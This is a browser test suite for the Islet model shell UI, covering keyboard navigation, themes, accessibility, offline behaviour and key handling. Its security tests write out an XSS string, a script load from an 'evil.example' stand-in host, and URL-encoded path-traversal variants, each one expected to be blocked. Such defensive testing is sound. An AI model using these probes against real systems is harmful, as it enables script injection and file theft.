// The shell in Chromium: by keyboard alone, in both themes, at 360 px, without its server, and with one that is busy.

import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  axeFindings,
  fakeBed,
  named,
  noBrowser,
  overflow,
  pressUntil,
  workerBed,
  type FakeBed,
  type Look,
  type WorkerBed,
} from './harness.ts'

const LOOKS: [string, Look][] = [
  ['light', { theme: 'light' }],
  ['dark', { theme: 'dark' }],
  ['light, 360 px', { theme: 'light', width: 360, height: 740, touch: true }],
  ['dark, 360 px', { theme: 'dark', width: 360, height: 740, touch: true }],
]

describe.skipIf(noBrowser !== undefined)(named('the shell over the built worker'), () => {
  let bed: WorkerBed
  beforeAll(async () => void (bed = await workerBed()))
  afterAll(() => bed?.close())

  it('opens without an error of a script or of its policy, and says how the model is', async () => {
    const { page, context, errors } = await bed.open()
    await page.getByText('Ready', { exact: true }).waitFor()
    expect(await page.locator('.shell-model').textContent()).toBe('tiny')
    expect(errors).toEqual([])
    await context.close()
  })

  it('lets no string become script, and no script in from elsewhere', async () => {
    const { page, context } = await bed.open()
    const said = await page.evaluate(async () => {
      // What the driver evaluates may do more than the page: a timer's callback may not.
      await new Promise((resolve) => setTimeout(resolve))
      const tried: string[] = []
      const attempt = (name: string, act: () => void): void => {
        try {
          act()
          tried.push(`${name} went through`)
        } catch (error) {
          tried.push(`${name}: ${(error as Error).name}`)
        }
      }
      attempt('innerHTML', () => (document.createElement('p').innerHTML = '<img src=x onerror=alert(1)>'))
      attempt('eval', () => void (0, eval)('1'))
      attempt('script.src', () => (document.createElement('script').src = 'https://evil.example/x.js'))
      return tried
    })
    expect(said).toEqual(['innerHTML: TypeError', 'eval: EvalError', 'script.src: TypeError'])
    const plain = await page.evaluate(() =>
      fetch('http://evil.example/').then(
        () => 'out',
        () => 'kept in',
      ),
    )
    expect(plain).toBe('kept in')
    await context.close()
  })

  it('gives out no weights, by whatever path', async () => {
    const tried = [
      '/models/tiny/weights-000.bin',
      '/models/tiny/manifest.json',
      '/play/../models/tiny/manifest.json',
      '/play/..%2fmodels%2ftiny%2fmanifest.json',
      '/play/%2e%2e/models/tiny/manifest.json',
      '/play/%2e%2e%2fmodels%2ftiny%2fmanifest.json',
      '/play/..%5cmodels%5ctiny%5cmanifest.json',
      '/play//models/tiny/manifest.json',
      '/play/index.page',
      '/reference/openapi.json',
      '/play/',
      '/play',
    ]
    for (const path of tried)
      for (const accept of ['*/*', 'text/html']) {
        const response = await fetch(bed.worker.url + path, { headers: { accept } })
        expect([path, response.status]).toEqual([path, 404])
        expect(response.headers.get('content-type')).toContain('json')
      }
  })

  it('goes through tabs, panel, hood and help by keyboard alone', async () => {
    const { page, context, errors } = await bed.open()
    const focused = (): Promise<string> => page.evaluate(() => document.activeElement?.id ?? '')
    await pressUntil(page, 'Tab', '#tab-chat')
    await page.keyboard.press('ArrowRight')
    expect(await focused()).toBe('tab-extract')
    await page.waitForFunction(() => document.title === 'Extract · Islet')
    await page.keyboard.press('End')
    expect(await focused()).toBe('tab-decide')
    await page.keyboard.press('ArrowRight')
    expect(await focused()).toBe('tab-chat')

    await pressUntil(page, 'Tab', '#shell-settings')
    await page.keyboard.press('Enter')
    expect(await page.locator('.shell-panel').count()).toBe(0)
    await page.keyboard.press('Enter')
    await page.locator('.shell-panel').waitFor()
    await pressUntil(page, 'Tab', '#sampling-temperature')
    await page.keyboard.type('5')
    expect(await page.locator('#sampling-temperature').getAttribute('aria-invalid')).toBe('true')
    expect(await page.locator('#sampling-temperature-hint').textContent()).toBe('From 0 to 2.')

    await pressUntil(page, 'Tab', '.shell-hood-bar', 120)
    await page.keyboard.press('Enter')
    expect(await page.locator('.shell-hood-bar').getAttribute('aria-expanded')).toBe('true')
    await page.keyboard.press('.')
    expect(await page.locator('.shell-hood-bar').getAttribute('aria-expanded')).toBe('false')

    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Help' }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await page.waitForFunction(() => document.activeElement?.className === 'shell-hood-bar')
    await page.keyboard.press('2')
    await page.waitForFunction(() => document.title === 'Extract · Islet')

    // A key right behind Escape, before the browser tells the page that the dialog closed.
    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Help' }).waitFor()
    await page.evaluate(() => {
      document.querySelector('dialog')!.close()
      document.body.dispatchEvent(new KeyboardEvent('keydown', { key: '3', bubbles: true }))
    })
    await page.waitForFunction(() => document.title === 'Decide · Islet')
    expect(errors).toEqual([])
    await context.close()
  })

  it('remembers theme and tab over a reload, and a key only if asked to', async () => {
    const { page, context } = await bed.open({ theme: 'light' })
    await pressUntil(page, 'Tab', '#tab-chat')
    await page.keyboard.press('t')
    await page.keyboard.press('t')
    await page.keyboard.press('3')
    await page.getByText('Connection', { exact: true }).click()
    await page.locator('#shell-key').fill('secret-key')
    await page.keyboard.press('Tab')
    await page.reload()
    await page.waitForFunction(() => document.title === 'Decide · Islet')
    expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark')
    const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor)
    expect(background).toBe('rgb(20, 23, 22)')
    expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('secret-key')
    await context.close()
  })

  it.each(LOOKS)('has no findings of axe and nothing that sticks out: %s', async (_, look) => {
    const { page, context } = await bed.open({ ...look, stored: { hood: true } })
    await page.getByText('Ready', { exact: true }).waitFor()
    expect(await axeFindings(page)).toEqual([])
    expect(await overflow(page)).toBe(0)
    const scrolls = await page.evaluate(() => document.documentElement.scrollHeight - innerHeight)
    expect(scrolls).toBe(0) // the views scroll, the window does not
    if (look.width !== undefined) {
      await page.locator('#shell-settings').click()
      await page.getByRole('dialog', { name: 'Settings' }).waitFor()
      await page.getByText('Connection', { exact: true }).click()
      await page.waitForTimeout(300) // the sheet has come up: half transparent colours have another contrast
      expect(await axeFindings(page)).toEqual([])
      await page.keyboard.press('Escape')
    }
    await page.locator('button[aria-label=Help]').click()
    await page.getByRole('dialog', { name: 'Help' }).waitFor()
    expect(await axeFindings(page)).toEqual([])
    await context.close()
  })

  it('opens without its server after it was there once, says so, and goes on when it is back', async () => {
    const { page, context, errors } = await bed.open()
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
    await bed.worker.kill()
    await page.reload()
    await page.getByText('The server does not answer.', { exact: false }).first().waitFor()
    expect(await page.locator('.shell-state').textContent()).toBe('Away')
    expect(await axeFindings(page)).toEqual([])
    await bed.worker.restart()
    await page.getByText('Ready', { exact: true }).waitFor({ timeout: 30_000 })
    expect(errors).toEqual([])
    // What the service worker kept is the page alone: no answer of the API.
    const kept = await page.evaluate(async () => {
      const requests = await Promise.all(
        (await caches.keys()).map(async (name) => (await caches.open(name)).keys()),
      )
      return requests.flat().map(({ url }) => new URL(url).pathname)
    })
    expect(kept.map((path) => path.replace(/-[A-Z0-9]{8}/, '')).sort()).toEqual([
      '/',
      '/play/page.css',
      '/play/page.js',
    ])
    await context.close()
  })
})

describe.skipIf(noBrowser !== undefined)(named('the shell over a scripted server'), () => {
  let bed: FakeBed
  let answer: (request: Request) => Response | undefined = () => undefined
  beforeAll(async () => void (bed = await fakeBed(undefined, (request) => answer(request))))
  afterAll(() => bed?.close())

  it('shows how far the model has loaded, and reads it out once', async () => {
    let done = 20e6
    answer = ({ url }) =>
      url.endsWith('/health')
        ? Response.json(
            { status: 'loading', state: 'loading', model: 'big', loaded_bytes: done, total_bytes: 100e6 },
            { status: 503 },
          )
        : undefined
    const { page, context } = await bed.open()
    await page.getByText('20 MB of 100 MB', { exact: false }).waitFor()
    done = 60e6
    await page.getByText('Loading 60 %').waitFor()
    expect(await page.locator('progress').getAttribute('value')).toBe('0.6')
    expect(await page.locator('[role=status]').first().textContent()).toBe('The model is loading.')
    expect(await axeFindings(page)).toEqual([])
    answer = () => undefined
    await page.getByText('Ready', { exact: true }).waitFor()
    expect(await page.locator('progress').count()).toBe(0)
    await context.close()
  })

  it('asks for a key where the server wants one, and opens the field for it', async () => {
    answer = (request) =>
      new URL(request.url).pathname.startsWith('/v1/') &&
      request.headers.get('authorization') !== 'Bearer right'
        ? Response.json({ error: { message: 'no', code: 'invalid_api_key' } }, { status: 401 })
        : undefined
    const { page, context } = await bed.open({ stored: { panel: false } })
    await page.getByRole('button', { name: 'Enter a key' }).click()
    await page.waitForFunction(() => document.activeElement?.id === 'shell-key')
    await page.keyboard.type('right')
    await page.keyboard.press('Tab')
    await page.getByText('Ready', { exact: true }).waitFor()
    expect(await page.getByRole('button', { name: 'Enter a key' }).count()).toBe(0)
    answer = () => undefined
    await context.close()
  })

  it('says of an address that it cannot ask why it cannot', async () => {
    const { page, context } = await bed.open()
    await page.getByText('Connection', { exact: true }).click()
    await page.getByLabel('Address of the server').fill('http://elsewhere.example')
    await page.keyboard.press('Tab')
    await page.getByText('Give an https:// address', { exact: false }).waitFor()
    await context.close()
  })
})

describe.skipIf(noBrowser !== undefined)(named('a worker of another origin'), () => {
  let here: FakeBed
  let there: WorkerBed
  const key = 'remote-key'
  beforeAll(async () => {
    const { createHash } = await import('node:crypto')
    const hash = createHash('sha256').update(key).digest('hex')
    ;[here, there] = await Promise.all([fakeBed(), workerBed({ API_KEYS: hash }, { ready: key })])
  })
  afterAll(async () => {
    await here?.close()
    await there?.close()
  })

  it('is talked to with its address and key', async () => {
    const base = there.url.replace('127.0.0.1', 'localhost')
    const { page, context, errors } = await here.open({ stored: { base, 'keep-key': true, key } })
    await page.getByText('Ready', { exact: true }).waitFor()
    expect(await page.locator('.shell-model').textContent()).toBe('tiny')
    const exposed = await page.evaluate(
      async ([url, bearer]) => {
        const response = await fetch(`${url}/v1/chat/completions`, {
          method: 'POST',
          headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/json' },
          body: JSON.stringify({ model: 'tiny', max_tokens: 2, messages: [{ role: 'user', content: 'hi' }] }),
        })
        const names = ['x-request-id', 'x-islet-session', 'x-islet-turn']
        return [response.status, ...names.map((name) => response.headers.get(name) !== null)]
      },
      [base, key],
    )
    expect(exposed).toEqual([200, true, true, true])
    expect(errors).toEqual([])
    await context.close()
  })
})
